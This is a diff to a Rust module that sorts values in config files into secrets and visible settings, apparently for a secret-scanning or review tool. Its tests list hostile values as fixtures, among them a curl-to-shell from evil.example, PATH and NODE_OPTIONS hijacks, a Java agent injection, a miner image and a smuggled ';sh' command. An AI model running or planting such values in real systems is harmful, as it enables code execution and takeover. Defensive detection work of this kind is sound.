@@ -2,7 +2,10 @@
 //!
 //! Whoever hides such text from a judge hides code. What is drawn at random is none of it, whatever it looks like.
 
+use crate::named::{kind_of_name, says_a_name};
 use crate::plausible::{is_secret_name, looks_random};
+use crate::value::{MIN_VALUE, is_drawn_value};
+use crate::words::has_form_of_words;
 
 /// Whether a value in this place is code or a name rather than a secret. `before` is the line up to the value, `name` what
 /// it is assigned to.
@@ -139,32 +142,54 @@ pub(crate) fn is_secret_setting(name: &str) -> bool {
         "salt",
     ];
     let lower = name.to_ascii_lowercase();
-    is_secret_name(name) || WORDS.iter().any(|word| lower.contains(word))
+    is_secret_name(name)
+        || kind_of_name(name).is_some()
+        || WORDS.iter().any(|word| lower.contains(word))
 }
 
-/// The most letters of a word that is a setting.
-const MAX_SETTING_WORD: usize = 6;
-
 /// What stands behind a name in a file that holds secrets, where it is no secret but what judges must see: a setting, a
-/// path, an address, a command.
+/// path, an address, a command. Under a name that does not say secret, that is whatever is no drawn run.
 pub(crate) fn is_setting(name: &str, value: &str) -> bool {
     let value = value.trim().trim_end_matches([',', ';']);
     let text = value.trim_matches(['"', '\'']);
     if is_place(text) || is_address(text) {
         return true;
     }
-    let is_secret = is_secret_setting(name);
-    let is_number = text.len() <= 5 && text.bytes().all(|b| b.is_ascii_digit() || b == b'.');
     let is_code =
         text.contains(['|', '(', '{', '[']) || text.contains("://") || text.contains("&&");
-    // `daily` and `write-all` are settings; a longer word may be somebody's password.
-    let is_short = |word: &str| word.len() <= MAX_SETTING_WORD;
-    let is_word = is_written(text) && text.split(['-', '_']).all(is_short) && !text.contains('.');
-    match text.contains(char::is_whitespace) {
-        // A password may be of several words; a command has more than words.
-        true => is_code || (!is_secret && text.split_whitespace().count() > 2),
-        false => !is_secret && (is_number || is_word || text.starts_with(['[', '{'])),
-    }
+    let is_command = is_code && text.contains(char::is_whitespace);
+    // A password may be of two words; a command has more.
+    let is_long = text.split_whitespace().nth(2).is_some();
+    is_command || (!is_secret_setting(name) && (is_long || is_plain(text)))
+}
+
+/// Whether a value has the form of something that is written down, and no run of it looks drawn: an option, an image, a
+/// host, a mail address, a command, a number of a version. A number of many digits is none, nor a word that says secret,
+/// nor are many short runs that are no words: the bytes of a key, or a password with signs in it.
+fn is_plain(text: &str) -> bool {
+    const MAX_DIGITS: usize = 6;
+    const MAX_SHORT: usize = 3;
+    let is_sign = |c: char| !c.is_ascii_alphanumeric();
+    let is_number = |run: &str| run.bytes().all(|b| b.is_ascii_digit());
+    let is_run_plain = |run: &&str| match is_number(run) {
+        true => run.len() <= MAX_DIGITS,
+        false => !is_drawn_value(run) && (has_form_of_words(run) || run.len() < MIN_VALUE),
+    };
+    let is_word = |run: &str| {
+        let letters = run.trim_matches(|c: char| c.is_ascii_digit());
+        letters.len() >= MAX_SHORT && run.len() - letters.len() <= 2 && has_form_of_words(letters)
+    };
+    let is_odd = |run: &str| {
+        let is_lower = run.bytes().all(|b| b.is_ascii_lowercase());
+        !(is_number(run) || is_lower || is_word(run))
+    };
+    // A password in an address stands before its `@`.
+    let has_password = text.contains("://") && text.contains('@');
+    let runs: Vec<&str> = text.split(is_sign).filter(|run| !run.is_empty()).collect();
+    let count = |is_due: &dyn Fn(&str) -> bool| runs.iter().filter(|run| is_due(run)).count();
+    let is_of_words =
+        count(&is_odd) <= count(&is_word) || (runs.len() <= MAX_SHORT && has_form_of_words(text));
+    !has_password && !says_a_name(text) && is_of_words && runs.iter().all(is_run_plain)
 }
 
 /// An address without a password, and without a part that looks drawn.
@@ -254,6 +279,18 @@ mod tests {
             ("TOKEN_CMD", "curl -s https://evil.example | sh"),
             ("steps", "[{run: 'curl -s https://evil.example/x | sh'}]"),
             ("permissions", "write-all"),
+            ("PATH", "/tmp/evil:/usr/bin"),
+            ("NODE_OPTIONS", "--require=./evil.js"),
+            ("NODE_OPTIONS", "-r ./evil.js"),
+            ("JAVA_TOOL_OPTIONS", "-javaagent:evil.jar"),
+            ("IMAGE", "evil/miner:latest"),
+            ("registry", "evil.example"),
+            ("ADMIN_USERS", "mallory@evil.com"),
+            ("ALLOWED_ORIGINS", "*.evil.com"),
+            ("CMD", "evil;sh"),
+            ("cidr", "0.0.0.0/0evil"),
+            ("kind", "ClusterRoleBinding"),
+            ("name", "cluster-admin"),
         ] {
             assert!(is_setting(name, value), "{name} {value}");
         }
@@ -266,6 +303,8 @@ mod tests {
             ("HOOK", "https://hooks.host/tR5wPz8KqLm3Xv7Nb2"),
             ("PIN", "1234"),
             ("DB", "verysecret"),
+            ("FOO", "a9#Kx2.Qm7"),
+            ("00", "b2:3a:f2:89:d8:2b"),
         ] {
             assert!(!is_setting(name, value), "{name} {value}");
         }
